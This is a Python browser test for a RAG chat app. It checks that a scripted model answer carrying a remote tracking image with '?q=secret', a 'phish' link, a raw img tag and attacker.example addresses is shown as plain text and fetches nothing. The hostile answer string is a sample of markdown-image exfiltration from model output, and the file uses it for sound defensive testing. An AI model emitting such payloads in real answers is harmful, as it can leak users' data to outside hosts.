"""In a real browser: an answer holding a remote image and a link renders neither (Playwright + Chromium).

The model is a real `openai-compatible` provider pointed at a stand-in server whose answer carries
`![pixel](trap)` and `[details](trap)`; the trap records every request a browser makes to it.
"""

from __future__ import annotations

import shutil

import pytest

from support.browser_support import ARTIFACTS, RUN_TIMEOUT_MS, Server, browser, needs_chromium, page, shot  # noqa: F401
from support.openai_standin import ChatStandin, Trap

pytestmark = needs_chromium


@pytest.fixture(scope="module")
def trap():
    with Trap() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_server(sample_data_dir, tmp_path_factory, trap):
    answer = (f"스테이크는 ₩35,000입니다 [1]. ![pixel]({trap.base}/pixel.png?q=secret) "
              f"See [details]({trap.base}/phish) or {trap.base}/bare <img src=\"{trap.base}/raw.png\"> "
              "www.attacker.example, http\\://escaped.example and bob@attacker.example")
    with ChatStandin(answer) as model:
        data = tmp_path_factory.mktemp("browser-render") / "data"
        shutil.copytree(sample_data_dir / "chroma", data / "chroma")
        ARTIFACTS.mkdir(exist_ok=True)
        srv = Server(data, ARTIFACTS / "streamlit-render-server.log")
        srv.env.update(RAG_PROVIDER="openai-compatible", RAG_COMPAT_BASE_URL=model.url, RAG_MODEL="scripted")
        srv.start()
        yield srv
        srv.stop()


def test_an_answer_with_a_remote_image_and_links_fetches_nothing_from_outside(hostile_server, trap, page):
    page.goto(f"{hostile_server.url}/Basic_RAG")
    page.locator("[data-testid=stChatInput] textarea").fill("스테이크 가격은?")
    page.keyboard.press("Enter")
    answer = page.locator("[data-testid=stChatMessage]").last
    answer.locator("[data-testid=stTab]").first.wait_for(timeout=RUN_TIMEOUT_MS)  # the finished turn
    answer.get_by_text("₩35,000").first.wait_for()
    shot(page, "render-hostile-answer")
    images = page.evaluate("() => [...document.images].map(i => i.src)")
    assert [src for src in images if not src.startswith((hostile_server.url, "data:"))] == []
    links = page.evaluate("() => [...document.querySelectorAll('a[href]')].map(a => a.href)")
    assert [href for href in links if href.startswith(trap.base)] == []
    assert answer.locator("[data-testid=stMarkdownContainer] a").count() == 0  # no source has a URL: no link at all
    text = answer.inner_text()
    assert f"pixel ({trap.base}/pixel.png?q=secret)" in text and f"details ({trap.base}/phish)" in text  # shown as text
    assert trap.requests == []  # and the browser never asked the trap for anything
